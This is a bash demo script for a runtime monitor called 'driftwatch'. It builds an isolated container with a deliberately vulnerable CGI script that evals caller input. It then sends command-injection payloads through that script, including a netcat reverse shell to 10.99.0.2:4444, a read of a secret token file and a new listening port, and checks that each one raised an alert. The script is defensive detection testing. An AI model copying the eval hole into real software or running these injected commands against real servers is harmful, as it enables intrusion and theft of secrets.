#!/bin/bash
# demo.sh COMMAND: a web server in a real container is learned under load, then taken over through a careless CGI
# script. Everything happens in a container, two network namespaces and a cgroup that are made here and removed at the end.
set -u
cd "$(dirname "$0")/.." || exit 1
monitor=${1:-.build/release/driftwatch}
scripts/preflight.sh || exit 1
export BOX BOX_CGROUP=driftwatch-demo
BOX=$(mktemp -d /tmp/driftwatch-demo.XXXXXX)
# shellcheck source=../Tests/Support/containers.sh
source Tests/Support/containers.sh
web=dwweb intruder=dwout url=http://10.99.0.1/cgi-bin/ping
started=()

clean_up() {
  trap - EXIT INT TERM
  exec 2>/dev/null
  for pid in "${started[@]}"; do kill "$pid"; done
  oci_stop crun demo-web
  for pid in "${started[@]}"; do wait "$pid"; done
  overlay_down "$BOX/web"
  veth_down "$web" "$intruder"
  view_down
  rm -rf "$BOX"
}
trap clean_up EXIT
trap 'exit 130' INT TERM

bold() { if [ -t 1 ]; then printf '\e[1m%s\e[0m\n' "$1"; else printf '%s\n' "$1"; fi; }
give_up() {
  echo "demo: $1" >&2
  [ ! -s "$BOX/log" ] || tail -n 5 "$BOX/log" >&2
  exit 1
}
outside() { view ip netns exec "$intruder" "$@"; }
# In the background, remembered by the id of the process itself.
begin() {
  "$@" >/dev/null 2>&1 </dev/null &
  started+=($!)
}

# ------------------------------------------------------------------ a server, and people who use it

make_server() {
  rootfs "$BOX/image"
  mkdir -p "$BOX/image/run/secrets"
  echo 'hello' >"$BOX/image/www/index.html"
  echo 'not-a-real-token' >"$BOX/image/run/secrets/token"
  cat >"$BOX/image/www/cgi-bin/ping" <<'CGI'
#!/bin/sh
echo "Content-type: text/plain"
echo
read -r host
# Where the attacker comes in: the caller's words are run.
eval "echo pinging $host"
CGI
  chmod +x "$BOX/image/www/cgi-bin/ping"
  view_up && veth "$web" "$intruder" && overlay "$BOX/web" "$BOX/image" &&
    bundle "$BOX/web/bundle" "$BOX/web/merged" /demo-web "$web" -- /bin/httpd -f -p 80 -h /www
}

use_server() {
  outside sh -c "while :; do
    busybox wget -q -O /dev/null http://10.99.0.1/index.html
    busybox wget -q -O /dev/null --post-data web1 $url
    sleep 0.1
  done"
}

# ------------------------------------------------------------------ attacks, all through the CGI script

shown=0
# show HEADLINE: the alerts printed since the last time.
show() {
  local try lines
  bold "
$1"
  for ((try = 0; try < 30; try++)); do
    sleep .1
    lines=$(wc -l <"$BOX/alerts")
    [ "$lines" -le "$shown" ] || [ "$try" -lt 8 ] || break
  done
  if [ "$lines" -gt "$shown" ]; then
    sed -n "$((shown + 1)),${lines}p" "$BOX/alerts"
  else
    echo '  nothing was reported'
    silent=1
  fi
  shown=$lines
}

# attack HEADLINE COMMAND: what the shell of the script is made to run.
attack() {
  outside timeout 2 busybox wget -q -O /dev/null --post-data "web1; $2" "$url" >/dev/null 2>&1
  show "$1"
}

bold 'A container with a small web server starts, and people use it. driftwatch learns for 8 seconds.'
make_server || give_up 'the container could not be prepared'
"$monitor" run --state "$BOX/state" --workload 'oci/demo*' --learn 8s --format text --ready-file "$BOX/ready" \
  >"$BOX/alerts" 2>"$BOX/log" </dev/null &
started+=($!)
until_ready 500 test -e "$BOX/ready" || give_up 'the monitor did not start'
oci_start crun "$BOX/web/bundle" demo-web || give_up 'the container did not start'
begin use_server
sleep 10
shown=$(wc -l <"$BOX/alerts")
grep -v monitor-started "$BOX/alerts"

silent=
attack '1. A shell, started by the server' 'sh -c id'
attack '2. A program that is not from the image' 'cp /bin/busybox /tmp/true; /tmp/true'
begin outside "$PWD/Tests/Provokers/build/accept" 4444
sleep .3
attack '3. A reverse shell to the attacker' 'nc 10.99.0.2 4444 -e /bin/sh'
attack '4. A token is read' 'read t </run/secrets/token'
attack '5. A connection to where it never went' 'wget -q -O /dev/null http://10.99.0.2:8081/'
attack '6. A new port is opened' 'nc -l -p 9999 &'

bold "
Used as before, the server is silent again. Alerts in all: $(grep -c ALERT "$BOX/alerts")."
[ -z "$silent" ] || give_up 'an attack went unnoticed'
